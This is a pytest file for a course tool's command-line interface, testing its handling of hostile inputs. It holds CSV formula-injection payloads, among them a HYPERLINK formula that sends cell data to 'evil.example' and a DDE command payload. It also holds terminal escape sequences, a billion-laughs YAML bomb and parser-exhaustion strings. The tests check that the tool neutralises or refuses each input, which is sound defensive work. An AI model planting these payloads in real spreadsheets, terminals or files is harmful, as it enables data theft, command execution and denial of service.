"""Issue 15: hostile and broken inputs, through every user-facing command.

Real files and real subprocesses (``python -m runwell …``), as an instructor or a learner would
run them. One section per bullet of the issue:

1. spreadsheet formula injection in the class CSVs;
2. one bad progress file must not sink the report (and a learner's own is moved aside);
3. terminal escape codes are never printed raw;
4. the report never writes over its inputs (or over files it did not write);
5. handouts, student and report delete or replace only files they wrote;
6. a YAML bomb in a quiz bank is refused at once, in one line naming the file;
7. every OS error a user can cause is one line ``path: reason``, never a traceback;
8. litter from interrupted writes is cleaned up by the next run;

and what must keep holding: XSS escaping, the lock and atomic writes under kill -9, legitimate
learner names (joiners, no-break spaces) accepted and control characters refused.

Root ignores file permissions, which makes ``chmod``-based read-only folders meaningless, so
when permissions do not apply the read-only cases use a folder the kernel refuses to anyone
(``/sys``), and say so when they cannot.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat import v4

from runwell import course as model
from runwell.errors import unsafe_char
from runwell.handouts.build import MANIFEST as HANDOUTS_MANIFEST
from runwell.handouts.static import STATIC_MIME, WIDGET_VIEW_MIME
from runwell.progress.document import parse

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).resolve().parent / "fixtures"
MODEL = model.load(ROOT)
REVIEW = MODEL.bank("06_review")
Q1, Q2 = [q for q in REVIEW.questions if q.type in ("single", "true_false")][:2]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ESCAPES = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e")  # ESC, BEL, CSI, OSC, right-to-left override
OSC_NAME = "\x1b]0;pwned\x07\x1b[2J\x9b31mEve\u202egnp.exe"
PAGES = {"01_alpha.html", "02_beta.html", "01_try.html", "index.html", "answer-key.html"}
TIMEOUT = 180


# ------------------------------------------------------------------------------------ helpers


def env_for(tmp_path: Path, **extra: str) -> dict[str, str]:
    """The environment of a learner's or instructor's shell: no test overrides, a private
    course cache, and a progress file in the test's folder (never the real one)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("RUNWELL_")}
    env["RUNWELL_CACHE"] = str(tmp_path / "cache")
    env["RUNWELL_PROGRESS"] = str(tmp_path / "home" / "progress.json")
    env.update(extra)
    return env


def runwell(
    tmp_path: Path, *args: str | Path, cwd: Path | None = None, timeout: float = TIMEOUT,
    stdin: str | None = None, **env: str
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "runwell", *map(str, args)],
        cwd=cwd or tmp_path,
        env=env_for(tmp_path, **env),
        input=stdin if stdin is not None else "",
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="surrogateescape",
        timeout=timeout,
        check=False,
    )


def shown(path: Path, cwd: Path) -> str:
    """How a message names *path* when the command runs in *cwd* (relative when inside it)."""
    try:
        return path.relative_to(cwd).as_posix()
    except ValueError:
        return str(path)


def no_traceback(proc: subprocess.CompletedProcess[str]) -> None:
    both = proc.stdout + proc.stderr
    for word in ("Traceback", "MemoryError", "RecursionError", "Error:"):
        assert word not in both, both[-3000:]


def one_line(proc: subprocess.CompletedProcess[str], *needles: str) -> str:
    """The command failed with exactly one line on stderr that names every needle."""
    no_traceback(proc)
    assert proc.returncode != 0, proc.stdout[-2000:]
    lines = proc.stderr.splitlines()
    assert len(lines) == 1, proc.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]
    no_raw_escapes(proc.stderr)
    return lines[0]


def no_raw_escapes(text: str) -> None:
    bad = sorted({f"U+{ord(c):04X}" for c in text if c != "\n" and unsafe_char(c)})
    assert not bad, f"raw control or escape characters printed: {bad}"


def answer(q: Any, ok: bool = True) -> list[str]:
    return sorted(q.correct_ids) if ok else [next(c.id for c in q.shown if not c.correct)]


def progress_doc(learner: str = "", answers: dict[str, Any] | None = None) -> dict[str, Any]:
    if answers is None:
        answers = {"06_review": {
            Q1.id: {"answer": answer(Q1), "time": "2026-05-01T10:00:00Z", "attempts": 1},
            Q2.id: {"answer": answer(Q2, False), "time": "2026-05-01T10:01:00Z", "attempts": 2},
        }}
    return {"format": "runwell-progress", "version": 2, "learner": learner, "answers": answers}


def write_json(path: Path, data: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def bank_text() -> str:
    sample = (FIXTURES / "quizzes" / "valid" / "01_sample.yaml").read_text(encoding="utf-8")
    return sample.replace("lesson: 01_sample", "lesson: 01_alpha")


def lesson(title: str, bank: str | None = None) -> Any:
    nb = v4.new_notebook()
    nb.metadata["runwell"] = {"minutes": 10, "question": f"What is {title}?"}
    nb.cells = [
        v4.new_markdown_cell(f"# {title}\n\n- objective one", metadata={"tags": ["objectives"]}),
        v4.new_markdown_cell("## Part\n\nSome text."),
    ]
    if bank is not None:
        view = {"model_id": "w-1", "version_major": 2, "version_minor": 0}
        data = {"text/plain": "Quiz()", WIDGET_VIEW_MIME: view,
                STATIC_MIME: {"widget": "quiz", "bank": bank}}
        nb.cells.append(v4.new_code_cell(
            f"quiz.show({bank!r})", outputs=[v4.new_output("display_data", data=data)]
        ))
    return nb


def exercise() -> Any:
    nb = v4.new_notebook()
    nb.cells = [
        v4.new_markdown_cell("# Try it"),
        v4.new_code_cell("### BEGIN SOLUTION\nx = 'RWMARK-secret'\n### END SOLUTION\nprint(x)",
                         metadata={"tags": ["solution"]}),
    ]
    return nb


def make_course(root: Path, *, quiz: bool = False) -> Path:
    """A tiny course: two lessons (the first with the 01_alpha quiz when *quiz*), one exercise
    and one valid quiz bank."""
    (root / "notebooks" / "quizzes").mkdir(parents=True)
    (root / "exercises").mkdir()
    (root / "notebooks" / "quizzes" / "01_alpha.yaml").write_text(bank_text(), encoding="utf-8")
    nbformat.write(lesson("Alpha", "01_alpha" if quiz else None),
                   root / "notebooks" / "01_alpha.ipynb")
    nbformat.write(lesson("Beta"), root / "notebooks" / "02_beta.ipynb")
    nbformat.write(exercise(), root / "exercises" / "01_try.ipynb")
    return root


@pytest.fixture
def tiny(tmp_path: Path) -> Path:
    return make_course(tmp_path / "course")


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def permissions_apply(folder: Path) -> bool:
    """Whether the system refuses this process a file in a folder without write permission
    (root, with its override of file permissions, is never refused)."""
    import shutil
    import tempfile

    probe = Path(tempfile.mkdtemp(prefix="permission-probe-", dir=folder))
    probe.chmod(0o555)
    try:
        (probe / "x").write_text("x")
    except PermissionError:
        return True
    finally:
        probe.chmod(0o755)
        shutil.rmtree(probe)
    return False


@pytest.fixture
def read_only_dir(tmp_path: Path) -> Iterator[Path]:
    """A folder nobody may create files in: a chmod 555 folder where permissions apply. Root
    ignores permissions, so then sysfs, whose root the kernel refuses to let anyone write into."""
    if permissions_apply(tmp_path):
        folder = tmp_path / "read-only"
        folder.mkdir()
        folder.chmod(0o555)
        try:
            yield folder
        finally:
            folder.chmod(0o755)
        return
    folder = Path("/sys")
    probe = folder / f"runwell-probe-{os.getpid()}"
    try:
        probe.mkdir()
    except OSError:
        yield folder  # refused, as it should be: a real read-only folder, even for root
        return
    probe.rmdir()
    reason = "permissions do not apply (root) and /sys accepts new folders: nothing read-only"
    print(f"SKIP: {reason}")
    pytest.skip(reason)


def needs_fifo() -> None:
    if not hasattr(os, "mkfifo"):
        reason = "this system has no named pipes (os.mkfifo)"
        print(f"SKIP: {reason}")
        pytest.skip(reason)


# ------------------------------------------------- 1. spreadsheet formula injection (CSV)


FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1\tsecond",
]


def test_formula_injection_in_learner_names_files_times_and_keys_is_neutralised(
    tmp_path: Path,
) -> None:
    files = [write_json(tmp_path / "in" / f"learner{n}.json", progress_doc(name))
             for n, name in enumerate(FORMULA_NAMES)]
    # an empty name falls back to the file's name, and the time is learner-controlled text
    doc = progress_doc("")
    doc["answers"]["06_review"][Q1.id]["time"] = "=1+1"
    files.append(write_json(tmp_path / '=HYPERLINK("x").json', doc))  # the file column
    # a question key and a lesson key that look like formulas
    keys = progress_doc("Keys", {"06_review": {"@SUM(1+1)": {"answer": ["a"], "attempts": 1}},
                                 "=cmd": {"x": {"answer": ["a"], "attempts": 1}}})
    files.append(write_json(tmp_path / "in" / "keys.json", keys))
    out = tmp_path / "class.csv"
    proc = runwell(tmp_path, "report", *files, "--csv", out)
    no_traceback(proc)
    assert proc.returncode == 0, proc.stderr
    learners = csv_rows(tmp_path / "class-learners.csv")
    questions = csv_rows(out)
    assert len(learners) == 1 + len(FORMULA_NAMES) + 1 + ("Keys" in proc.stdout)
    for row in learners[1:] + questions[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    for row in learners[1:]:
        for cell in row[2:6] + row[7:]:  # answered, correct, percent, lessons, not counted
            float(cell)  # numbers stay numbers: no quote in front
    for row in questions[1:]:
        for cell in row[2:6]:
            float(cell)
    assert any(row[0].startswith("'=HYPERLINK") for row in learners)
    assert any(row[1].startswith("'=HYPERLINK") for row in learners)  # the file column
    assert any(row[6] == "'=1+1" for row in learners)  # the time of the last answer


# ------------------------------------------------- 2. one file must not sink the report

DEEP = ('{"format": "runwell-progress", "version": 2, "answers": '
        + "[" * 100_000 + "]" * 100_000 + "}")
HUGE_INT = json.dumps(progress_doc("Big")).replace('"attempts": 2', '"attempts": ' + "9" * 5000)
BAD_FILES = {
    "deep.json": DEEP,
    "huge-int.json": HUGE_INT,
    "nan.json": json.dumps(progress_doc("NaN")).replace('"attempts": 2', '"attempts": NaN'),
    "surrogate.json": json.dumps(progress_doc("a\ud800b")),
    "huge.json": '{"format": "runwell-progress", "version": 2, "learner": "'
                 + "x" * 2_100_000 + '", "answers": {}}',
    "not-json.json": "{broken",
    # an unclosed string of escaped quotes, just under the size bound: a string pattern that
    # needs its closing quote rescans to the end from every quote (hours, not a skip)
    "unclosed.json": '"' + '\\"' * 999_000,
}


def test_bad_files_are_skipped_with_one_line_each_and_the_report_is_built_from_the_rest(
    tmp_path: Path,
) -> None:
    assert '"attempts": ' + "9" * 5000 in HUGE_INT  # the plant is really in the file
    folder = tmp_path / "class"
    good = [write_json(folder / "ana.json", progress_doc("Ana")),
            write_json(folder / "ben.json", progress_doc("Ben"))]
    for name, text in BAD_FILES.items():
        (folder / name).write_text(text, encoding="utf-8", errors="surrogatepass")
    proc = runwell(tmp_path, "report", folder, "--csv", tmp_path / "class.csv",
                   "--html", tmp_path / "class.html")
    no_traceback(proc)
    assert proc.returncode == 0, proc.stderr
    skipped = [line for line in proc.stderr.splitlines() if ": skipped: " in line]
    assert sorted(line.split(": skipped: ")[0] for line in skipped) == sorted(
        f"class/{name}" for name in BAD_FILES
    )
    assert all(len(line) < 400 for line in skipped)
    learners = csv_rows(tmp_path / "class-learners.csv")
    assert [row[0] for row in learners[1:]] == ["Ana", "Ben"]
    html = (tmp_path / "class.html").read_text(encoding="utf-8")
    assert "Ana" in html and "Ben" in html
    assert all(p.read_bytes() for p in good)


@pytest.mark.parametrize("content", [DEEP, HUGE_INT], ids=["deep-100000", "integer-5000-digits"])
def test_a_learners_own_bad_file_is_moved_aside_with_a_warning_and_saving_works_again(
    tmp_path: Path, content: str
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    mine = home / "progress.json"
    mine.write_text(content, encoding="utf-8")
    proc = runwell(tmp_path, "progress")
    no_traceback(proc)
    assert proc.returncode == 0, proc.stderr
    warning = proc.stderr.splitlines()
    assert len(warning) == 1 and "was unreadable" in warning[0], proc.stderr
    assert "started a fresh progress file" in warning[0]
    aside = sorted(home.glob("progress.json.corrupt-*"))
    assert len(aside) == 1 and aside[0].read_text(encoding="utf-8") == content
    # and a quiz save (the same store) works again
    proc = runwell(tmp_path, "progress", "--learner", "Ana")
    assert proc.returncode == 0, proc.stderr
    assert parse(mine.read_bytes())["learner"] == "Ana"


def test_a_quiz_save_over_a_bad_own_file_moves_it_aside(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from runwell import progress

    path = tmp_path / "progress.json"
    path.write_text(DEEP, encoding="utf-8")
    progress.record("06_review", Q1.id, tuple(answer(Q1)), path=path, course=MODEL)
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "was unreadable" in err
    assert parse(path.read_bytes())["answers"]["06_review"][Q1.id]["answer"] == answer(Q1)
    assert [p.read_text() for p in tmp_path.glob("progress.json.corrupt-*")] == [DEEP]


# ------------------------------------------------- 3. terminal escape codes


def test_escape_codes_in_a_learner_name_never_reach_the_terminal(tmp_path: Path) -> None:
    hostile = write_json(tmp_path / "eve.json", progress_doc(OSC_NAME))
    good = write_json(tmp_path / "ana.json", progress_doc("Ana"))
    proc = runwell(tmp_path, "report", hostile, good, "--html", tmp_path / "class.html")
    assert proc.returncode == 0, proc.stderr
    no_raw_escapes(proc.stdout + proc.stderr)
    assert "Eve" in proc.stdout
    # the learner's own view of the same file, as text and as JSON
    home = tmp_path / "home"
    write_json(home / "progress.json", progress_doc(OSC_NAME))
    proc = runwell(tmp_path, "progress")
    assert proc.returncode == 0, proc.stderr
    no_raw_escapes(proc.stdout + proc.stderr)
    assert "Eve" in proc.stdout
    proc = runwell(tmp_path, "progress", "--json")
    assert proc.returncode == 0, proc.stderr
    no_raw_escapes(proc.stdout)
    assert json.loads(proc.stdout)["learner"] == OSC_NAME  # escaped, not changed


def test_escape_codes_in_an_answer_key_or_a_file_name_are_not_printed(tmp_path: Path) -> None:
    keyed = progress_doc("Key", {"06_review": {"q\x1b]8;;http://evil\x07": {"answer": ["a"]}}})
    files = [write_json(tmp_path / "key.json", keyed),
             write_json(tmp_path / "name\x1b[31m.json", progress_doc("")),
             write_json(tmp_path / "ana.json", progress_doc("Ana"))]
    out = tmp_path / "out\x1b]0;t\x07.html"
    proc = runwell(tmp_path, "report", *files, "--html", out)
    assert proc.returncode == 0, proc.stderr
    no_raw_escapes(proc.stdout + proc.stderr)
    assert "key.json: skipped: " in proc.stderr
    assert "wrote out?]0;t?.html" in proc.stderr
    assert out.is_file()


def test_escape_codes_in_a_quiz_bank_are_not_printed_by_check(tiny: Path, tmp_path: Path) -> None:
    bank = bank_text().replace("id: sample-single", 'id: "sample\\e]0;pwned\\a\\e[2J"')
    bank = bank.replace("title: Warm-up check", 'title: "Warm-up \\e[31mcheck\\x9b"')
    (tiny / "notebooks" / "quizzes" / "01_alpha.yaml").write_text(bank, encoding="utf-8")
    (tiny / "notebooks" / "quizzes" / "02_\x1b[2Jbeta.yaml").write_text(
        bank_text().replace("01_alpha", "02_\x1b[2Jbeta"), encoding="utf-8"
    )
    proc = runwell(tmp_path, "check", "--root", tiny)
    no_traceback(proc)
    assert proc.returncode == 1
    no_raw_escapes(proc.stdout + proc.stderr)
    assert "notebooks/quizzes/01_alpha.yaml: sample?]0;pwned??[2J" in proc.stdout
    assert "notebooks/quizzes/02_?[2Jbeta.yaml" in proc.stdout


def test_escape_codes_in_output_folders_are_not_printed_by_handouts_or_student(
    tiny: Path, tmp_path: Path
) -> None:
    proc = runwell(tmp_path, "student", "--root", tiny, "--out", tmp_path / "s\x1b[2J")
    assert proc.returncode == 0, proc.stderr
    no_raw_escapes(proc.stdout + proc.stderr)
    assert "wrote s?[2J/01_try.ipynb" in proc.stdout
    proc = runwell(tmp_path, "handouts", "--root", tiny, "--out", tmp_path / "h\x1b]0;t\x07")
    assert proc.returncode == 0, proc.stderr
    no_raw_escapes(proc.stdout + proc.stderr)
    assert "in h?]0;t?" in proc.stdout


# ------------------------------------------------- 4. the report never writes over its inputs


@pytest.mark.parametrize("how", ["same", "symlink", "hardlink", "learners-csv"])
def test_the_report_refuses_to_write_over_one_of_its_inputs(tmp_path: Path, how: str) -> None:
    victim = write_json(tmp_path / "a.json", progress_doc("Ana"))
    other = write_json(tmp_path / "b.json", progress_doc("Ben"))
    if how == "same":
        args = ["--html", victim]
    elif how == "symlink":
        (tmp_path / "link.html").symlink_to(victim)
        args = ["--html", tmp_path / "link.html"]
    elif how == "hardlink":
        os.link(victim, tmp_path / "hard.csv")
        args = ["--csv", tmp_path / "hard.csv"]
    else:  # --csv class.csv also writes class-learners.csv, which is an input here
        victim = write_json(tmp_path / "class-learners.csv", progress_doc("Cy"))
        args = ["--csv", tmp_path / "class.csv"]
    before = victim.read_bytes()
    proc = runwell(tmp_path, "report", victim, other, *args)
    one_line(proc, "is one of the progress files being read")
    assert victim.read_bytes() == before
    assert not (tmp_path / "class.csv").exists()


def test_the_report_refuses_to_replace_a_file_it_did_not_write(tmp_path: Path) -> None:
    good = write_json(tmp_path / "a.json", progress_doc("Ana"))
    for name in ("plan.html", "grades.csv"):
        mine = tmp_path / name
        mine.write_text("the instructor's own work", encoding="utf-8")
        flag = "--html" if name.endswith(".html") else "--csv"
        proc = runwell(tmp_path, "report", good, flag, mine)
        one_line(proc, name, "was not written by `runwell report`")
        assert mine.read_text(encoding="utf-8") == "the instructor's own work"
    ours = tmp_path / "class.html"
    assert runwell(tmp_path, "report", good, "--html", ours).returncode == 0
    first = ours.read_text(encoding="utf-8")
    assert 'content="runwell report"' in first
    write_json(tmp_path / "b.json", progress_doc("Ben"))
    proc = runwell(tmp_path, "report", good, tmp_path / "b.json", "--html", ours)
    assert proc.returncode == 0, proc.stderr  # its own earlier report is replaced
    assert "Ben" in ours.read_text(encoding="utf-8") and "Ben" not in first


# ------------------------------------------------- 5. only files they wrote


@pytest.mark.parametrize("force", [False, True], ids=["incremental", "force"])
def test_handouts_keep_an_instructors_own_files(tiny: Path, tmp_path: Path, force: bool) -> None:
    out = tmp_path / "handouts"
    assert runwell(tmp_path, "handouts", "--root", tiny, "--out", out).returncode == 0
    (out / "my-notes.txt").write_text("the instructor's notes", encoding="utf-8")
    (out / "extra").mkdir()
    (out / "extra" / "worksheet.html").write_text("<p>mine</p>", encoding="utf-8")
    nbformat.write(lesson("Beta, revised"), tiny / "notebooks" / "02_beta.ipynb")
    args = ["--force"] if force else []
    proc = runwell(tmp_path, "handouts", "--root", tiny, "--out", out, "--quiet", *args)
    assert proc.returncode == 0, proc.stderr
    assert (out / "my-notes.txt").read_text(encoding="utf-8") == "the instructor's notes"
    assert (out / "extra" / "worksheet.html").read_text(encoding="utf-8") == "<p>mine</p>"
    assert "Beta, revised" in (out / "02_beta.html").read_text(encoding="utf-8")
    assert {p.name for p in out.glob("*.html")} == PAGES


def test_handouts_remove_only_the_page_of_a_vanished_notebook(tiny: Path, tmp_path: Path) -> None:
    out = tmp_path / "handouts"
    assert runwell(tmp_path, "handouts", "--root", tiny, "--out", out).returncode == 0
    (out / "my-notes.txt").write_text("notes", encoding="utf-8")
    (tiny / "notebooks" / "02_beta.ipynb").unlink()
    proc = runwell(tmp_path, "handouts", "--root", tiny, "--out", out)
    assert proc.returncode == 0, proc.stderr
    assert "removed 02_beta.html: its notebook no longer exists" in proc.stdout
    assert {p.name for p in out.iterdir() if not p.name.startswith(".")} == (
        PAGES - {"02_beta.html"} | {"my-notes.txt"}
    )


def test_handouts_refuse_a_foreign_file_where_a_handout_goes(tiny: Path, tmp_path: Path) -> None:
    out = tmp_path / "handouts"
    assert runwell(tmp_path, "handouts", "--root", tiny, "--out", out).returncode == 0
    nbformat.write(lesson("Gamma"), tiny / "notebooks" / "03_gamma.ipynb")
    (out / "03_gamma.html").write_text("<p>the instructor's own gamma page</p>")
    before = snapshot(out)
    proc = runwell(tmp_path, "handouts", "--root", tiny, "--out", out, "--force")
    one_line(proc, "03_gamma.html", "was not written by `runwell handouts`")
    assert snapshot(out) == before


def test_handouts_refuse_a_folder_they_never_built_into(tiny: Path, tmp_path: Path) -> None:
    out = tmp_path / "documents"
    out.mkdir()
    (out / "thesis.txt").write_text("precious", encoding="utf-8")
    proc = runwell(tmp_path, "handouts", "--root", tiny, "--out", out, "--force")
    one_line(proc, "documents", "was not written by `runwell handouts`")
    assert snapshot(out) == {"thesis.txt": b"precious"}


def test_a_failed_handout_build_changes_nothing(tiny: Path, tmp_path: Path) -> None:
    out = tmp_path / "handouts"
    assert runwell(tmp_path, "handouts", "--root", tiny, "--out", out).returncode == 0
    (out / "my-notes.txt").write_text("notes", encoding="utf-8")
    before = snapshot(out)
    nbformat.write(lesson("Beta, revised"), tiny / "notebooks" / "02_beta.ipynb")
    (tiny / "notebooks" / "03_bad.ipynb").write_text("{not json", encoding="utf-8")
    proc = runwell(tmp_path, "handouts", "--root", tiny, "--out", out)
    one_line(proc, "03_bad.ipynb")
    assert snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_student_replaces_and_deletes_only_its_own_untouched_notebooks(
    tiny: Path, tmp_path: Path
) -> None:
    out = tmp_path / "student"
    assert runwell(tmp_path, "student", "--root", tiny, "--out", out).returncode == 0
    (out / "notes.md").write_text("a learner's notes", encoding="utf-8")
    work = out / "01_try.ipynb"
    work.write_text(work.read_text(encoding="utf-8").replace("YOUR CODE HERE", "mine"))
    nbformat.write(exercise(), tiny / "exercises" / "02_more.ipynb")
    proc = runwell(tmp_path, "student", "--root", tiny, "--out", out)
    assert proc.returncode == 0, proc.stderr
    assert "kept " in proc.stdout and "mine" in work.read_text(encoding="utf-8")
    assert (out / "notes.md").read_text(encoding="utf-8") == "a learner's notes"
    (tiny / "exercises" / "02_more.ipynb").unlink()
    proc = runwell(tmp_path, "student", "--root", tiny, "--out", out)
    assert proc.returncode == 0, proc.stderr
    assert "removed " in proc.stdout and not (out / "02_more.ipynb").exists()
    assert (out / "notes.md").exists() and "mine" in work.read_text(encoding="utf-8")


# ------------------------------------------------- 6. YAML bombs in a quiz bank


def _laughs(levels: int) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return "lesson: 01_alpha\n" + "\n".join(lines) + "\n"


BOMBS = {
    "billion-laughs": (_laughs(9), "anchors and aliases"),
    "one-level-deeper": (_laughs(10), "anchors and aliases"),
    "nested-20000": ("lesson: 01_alpha\nq: " + "[" * 20_000 + "]" * 20_000 + "\n", "nest"),
    "mapping-20000": ("lesson: 01_alpha\nq: " + "{a: " * 20_000 + "1" + "}" * 20_000 + "\n",
                      "nest"),
    "five-megabytes": ("lesson: 01_alpha\nq:\n" + "  - lol\n" * 700_000, "larger than"),
}


@pytest.mark.parametrize("bomb", list(BOMBS))
@pytest.mark.parametrize("command", ["check", "progress", "handouts"])
def test_a_yaml_bomb_is_refused_in_one_line_naming_the_bank(
    tmp_path: Path, bomb: str, command: str
) -> None:
    root = make_course(tmp_path / "course", quiz=True)
    text, why = BOMBS[bomb]
    bank = root / "notebooks" / "quizzes" / "01_alpha.yaml"
    bank.write_text(text, encoding="utf-8")
    if command == "check":
        proc = runwell(tmp_path, "check", "--root", root, timeout=60)
        lines = proc.stdout.splitlines()
        assert proc.returncode == 1
    elif command == "progress":
        proc = runwell(tmp_path, "progress", cwd=root, timeout=60)
        lines = proc.stderr.splitlines()
        assert proc.returncode == 0, proc.stderr
    else:
        proc = runwell(tmp_path, "handouts", "--root", root, "--out", tmp_path / "h", timeout=60)
        lines = proc.stderr.splitlines()
        assert proc.returncode == 1 and len(lines) == 1, proc.stderr
        assert not (tmp_path / "h").exists()
    no_traceback(proc)
    naming = [line for line in lines if "notebooks/quizzes/01_alpha.yaml" in line]
    assert len(naming) == 1, proc.stdout + proc.stderr
    assert why in naming[0] and len(naming[0]) < 400


# ------------------------------------------------- 7. OS errors: one line, never a traceback


def test_report_output_is_a_folder_under_a_file_or_in_a_read_only_folder(
    tmp_path: Path, read_only_dir: Path
) -> None:
    good = write_json(tmp_path / "a.json", progress_doc("Ana"))
    (tmp_path / "folder").mkdir()
    (tmp_path / "blocker").write_text("a file", encoding="utf-8")
    one_line(runwell(tmp_path, "report", good, "--html", tmp_path / "folder"),
             "folder: is a folder")
    one_line(runwell(tmp_path, "report", good, "--csv", tmp_path / "folder"),
             "folder: is a folder")
    one_line(runwell(tmp_path, "report", good, "--html", tmp_path / "blocker" / "r.html"),
             "blocker/r.html: cannot write (blocker is a file, not a folder)")
    line = one_line(runwell(tmp_path, "report", good, "--csv", read_only_dir / "r.csv"),
                    f"{shown(read_only_dir, tmp_path)}/r.csv: cannot write (")
    assert re.search(r"permission denied|read-only", line), line


def test_report_never_waits_on_a_pipe(tmp_path: Path) -> None:
    needs_fifo()
    good = write_json(tmp_path / "a.json", progress_doc("Ana"))
    os.mkfifo(tmp_path / "pipe.html")
    os.mkfifo(tmp_path / "pipe.json")
    one_line(runwell(tmp_path, "report", good, "--html", tmp_path / "pipe.html", timeout=60),
             "pipe.html: exists and is not a regular file")
    proc = runwell(tmp_path, "report", tmp_path / "pipe.json", good, timeout=60)
    assert proc.returncode == 0 and "pipe.json: skipped: not a regular file" in proc.stderr


def test_handouts_out_under_a_file_or_in_a_read_only_folder(
    tiny: Path, tmp_path: Path, read_only_dir: Path
) -> None:
    (tmp_path / "blocker").write_text("a file", encoding="utf-8")
    one_line(runwell(tmp_path, "handouts", "--root", tiny, "--out", tmp_path / "blocker" / "h"),
             "blocker/h: ", "blocker is a file, not a folder")
    one_line(runwell(tmp_path, "handouts", "--root", tiny, "--out", tmp_path / "blocker"),
             "blocker: exists and is not a folder")
    line = one_line(runwell(tmp_path, "handouts", "--root", tiny, "--out",
                            read_only_dir / "handouts-x"), shown(read_only_dir, tmp_path))
    assert re.search(r"permission denied|read-only", line), line


def test_student_out_at_a_file_under_a_file_or_in_a_read_only_folder(
    tiny: Path, tmp_path: Path, read_only_dir: Path
) -> None:
    (tmp_path / "blocker").write_text("a file", encoding="utf-8")
    one_line(runwell(tmp_path, "student", "--root", tiny, "--out", tmp_path / "blocker"),
             "blocker: exists and is not a folder")
    one_line(runwell(tmp_path, "student", "--root", tiny, "--out", tmp_path / "blocker" / "s"),
             "blocker/s: ", "blocker is a file, not a folder")
    line = one_line(runwell(tmp_path, "student", "--root", tiny, "--out",
                            read_only_dir / "student-x"), shown(read_only_dir, tmp_path))
    assert re.search(r"permission denied|read-only", line), line
    assert (tmp_path / "blocker").read_text(encoding="utf-8") == "a file"


def test_a_folder_where_a_notebook_should_be_is_one_line(tiny: Path, tmp_path: Path) -> None:
    out = tmp_path / "student"
    (out / "01_try.ipynb").mkdir(parents=True)
    one_line(runwell(tmp_path, "student", "--root", tiny, "--out", out),
             "student/01_try.ipynb: is a folder")
    assert not (out / ".runwell-student.json").exists()  # refused before writing anything
    (tiny / "exercises" / "02_dir.ipynb").mkdir()
    one_line(runwell(tmp_path, "student", "--root", tiny, "--out", tmp_path / "s2"),
             "exercises/02_dir.ipynb: is a folder, not a notebook")
    one_line(runwell(tmp_path, "handouts", "--root", tiny, "--out", tmp_path / "h2"),
             "exercises/02_dir.ipynb: is a folder, not a notebook")
    one_line(runwell(tmp_path, "execute", tiny / "exercises" / "03_missing.ipynb"),
             "03_missing.ipynb: not a notebook")


def test_hostile_notebooks_are_one_line_for_check_handouts_student_and_execute(
    tiny: Path, tmp_path: Path
) -> None:
    deep = '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}"
    (tiny / "exercises" / "02_deep.ipynb").write_text(deep, encoding="utf-8")
    proc = runwell(tmp_path, "check", "--root", tiny)
    no_traceback(proc)
    assert proc.returncode == 1 and "exercises/02_deep.ipynb" in proc.stdout
    one_line(runwell(tmp_path, "handouts", "--root", tiny, "--out", tmp_path / "h"),
             "02_deep.ipynb: not a readable notebook")
    one_line(runwell(tmp_path, "student", "--root", tiny, "--out", tmp_path / "s"),
             "02_deep.ipynb: not a readable notebook")
    one_line(runwell(tmp_path, "execute", tiny / "exercises" / "02_deep.ipynb"),
             "02_deep.ipynb: not a readable notebook")
    needs_fifo()
    (tiny / "exercises" / "02_deep.ipynb").unlink()
    os.mkfifo(tiny / "exercises" / "02_pipe.ipynb")
    one_line(runwell(tmp_path, "handouts", "--root", tiny, "--out", tmp_path / "h", timeout=60),
             "02_pipe.ipynb: cannot read")
    os.mkfifo(tiny / "notebooks" / "quizzes" / "02_pipe.yaml")
    proc = runwell(tmp_path, "check", "--root", tiny, timeout=60)
    no_traceback(proc)
    assert "notebooks/quizzes/02_pipe.yaml: -: cannot read" in proc.stdout


def test_progress_in_a_read_only_folder_views_without_writing_and_saves_in_one_line(
    tmp_path: Path, read_only_dir: Path
) -> None:
    home = tmp_path / "home"
    write_json(home / "progress.json", progress_doc("Ana"))
    if permissions_apply(tmp_path):
        home.chmod(0o555)  # else (root): that nothing at all is written is checked below
    try:
        before = sorted(p.name for p in home.iterdir())
        proc = runwell(tmp_path, "progress")
        no_traceback(proc)
        assert proc.returncode == 0 and "learner: Ana" in proc.stdout, proc.stderr
        assert proc.stderr == ""
        assert sorted(p.name for p in home.iterdir()) == before  # not even a lock file
    finally:
        home.chmod(0o755)
    ro = read_only_dir / "progress.json"
    proc = runwell(tmp_path, "progress", RUNWELL_PROGRESS=str(ro))
    assert proc.returncode == 0 and "no quiz answers saved yet" in proc.stdout, proc.stderr
    line = one_line(runwell(tmp_path, "progress", "--learner", "Ana", RUNWELL_PROGRESS=str(ro)),
                    f"{ro}: cannot save your progress")
    assert re.search(r"permission denied|read-only", line), line


def test_a_corrupt_file_that_cannot_be_moved_aside_is_one_warning(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
